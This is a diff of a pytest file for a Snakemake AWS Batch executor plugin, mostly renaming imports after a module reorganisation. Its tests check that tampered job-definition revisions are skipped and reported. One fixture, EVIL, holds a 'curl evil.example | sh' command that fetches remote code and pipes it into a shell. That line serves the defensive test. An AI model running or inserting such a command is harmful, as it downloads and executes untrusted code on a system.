@@ -10,11 +10,16 @@ from pathlib import Path
 
 import pytest
 
-from snakemake_executor_plugin_hutchbatch import aws, definitions
-from snakemake_executor_plugin_hutchbatch.definitions import Definitions, Ours, prunable
-from snakemake_executor_plugin_hutchbatch.plan import JobPlan
-from snakemake_executor_plugin_hutchbatch.queues import Ladder
-from snakemake_executor_plugin_hutchbatch.values import Mount
+from snakemake_executor_plugin_hutchbatch.aws import clients
+from snakemake_executor_plugin_hutchbatch.planning.plan import JobPlan
+from snakemake_executor_plugin_hutchbatch.queues.queues import Ladder
+from snakemake_executor_plugin_hutchbatch.settings.parsers import Mount
+from snakemake_executor_plugin_hutchbatch.submission import job_definitions
+from snakemake_executor_plugin_hutchbatch.submission.job_definitions import (
+    Definitions,
+    Ours,
+    prunable,
+)
 
 HUTCHBATCH = str(Path(sys.executable).with_name("hutchbatch"))
 NOW = datetime.datetime(2026, 11, 27, 9, tzinfo=datetime.UTC)
@@ -60,7 +65,7 @@ def plans(count):
 
 def arns(batch, wanted):
     """What a run of its own submits these plans with."""
-    run = Definitions(batch, aws.Patience(print))
+    run = Definitions(batch, clients.Patience(print))
     return [run.arn(plan) for plan in (*wanted, *wanted)]
 
 
@@ -100,7 +105,7 @@ def test_in_a_crowded_account_the_rest_is_asked_for_by_name(cloud, batch, monkey
     wanted = plans(1)
     first = arns(batch, wanted)
     crowd(batch, 101)
-    monkeypatch.setattr(definitions, "PAGES", 1)
+    monkeypatch.setattr(job_definitions, "PAGES", 1)
     cloud.reset()
     assert arns(batch, wanted) == first
     assert cloud.calls()["calls"] == {"DescribeJobDefinitions": 2}
@@ -129,7 +134,7 @@ def test_one_that_says_all_there_is_to_say_is_found_again(cloud, batch):
 
 def plant(batch, plan, **changes):
     """A revision of a definition of ours that somebody registers with something else in it."""
-    request = definitions.registration(plan)
+    request = job_definitions.registration(plan)
     container = {**request["containerProperties"], **changes.pop("container", {})}
     answer = batch.register_job_definition(
         **{**request, "containerProperties": container, **changes}
@@ -157,10 +162,10 @@ EVIL = ["/bin/sh", "-c", "curl evil.example | sh"]
 )
 def test_a_revision_that_says_something_else_is_passed_over_and_named(cloud, batch, named, changes):
     (plan,) = plans(1)
-    name = definitions.registration(plan)["jobDefinitionName"]
+    name = job_definitions.registration(plan)["jobDefinitionName"]
     planted = plant(batch, plan, **changes)
     said = []
-    run = Definitions(batch, aws.Patience(print), warn=said.append)
+    run = Definitions(batch, clients.Patience(print), warn=said.append)
     used = run.arn(plan)
     assert used.endswith(f"/{name}:2")
     assert len(said) == 1
@@ -179,14 +184,14 @@ def test_the_good_revision_is_found_behind_pages_of_others(cloud, batch, monkeyp
         plant(batch, plan, container={"command": EVIL})
     cloud.reset()
     assert arns(batch, [plan]) == [used] * 2
-    monkeypatch.setattr(definitions, "PAGES", 1)  # then by its name
+    monkeypatch.setattr(job_definitions, "PAGES", 1)  # then by its name
     assert arns(batch, [plan]) == [used] * 2
     assert cloud.calls()["calls"].keys() == {"DescribeJobDefinitions"}
 
 
 def test_one_that_was_removed_is_registered_again(batch):
     (plan,) = plans(1)
-    run = Definitions(batch, aws.Patience(print))
+    run = Definitions(batch, clients.Patience(print))
     before = run.arn(plan)
     batch.deregister_job_definition(jobDefinition=before)
     assert arns(batch, [plan])[0] != before, "another run must not use it"
@@ -270,7 +275,7 @@ def command(cloud, *arguments):
 def test_old_ones_that_no_job_uses_are_removed(cloud, batch):
     young, idle, busy = plans(3)
     for plan, day in ((young, None), (idle, "2026-01-01"), (busy, "2026-01-01")):
-        tags = {} if day is None else {definitions.MADE_ON: day}
+        tags = {} if day is None else {job_definitions.MADE_ON: day}
         arn = arns(batch, [plan])[0]
         batch.tag_resource(resourceArn=arn, tags=tags or {"lab": "doe"})
     cloud.fault(kind="starve", queue="gpu-spot-50")
@@ -281,9 +286,14 @@ def test_old_ones_that_no_job_uses_are_removed(cloud, batch):
         arrayProperties={"size": 2},
     )["jobId"]
     foreign = batch.register_job_definition(
-        **{**definitions.registration(plans(1)[0]), "tags": {definitions.MADE_ON: "2026-01-01"}}
+        **{
+            **job_definitions.registration(plans(1)[0]),
+            "tags": {job_definitions.MADE_ON: "2026-01-01"},
+        }
     )["jobDefinitionName"]
-    name = {p.image: definitions.registration(p)["jobDefinitionName"] for p in (young, idle, busy)}
+    name = {
+        p.image: job_definitions.registration(p)["jobDefinitionName"] for p in (young, idle, busy)
+    }
 
     listed = command(cloud)
     assert listed[0].split() == ["definition", "made", "image"]
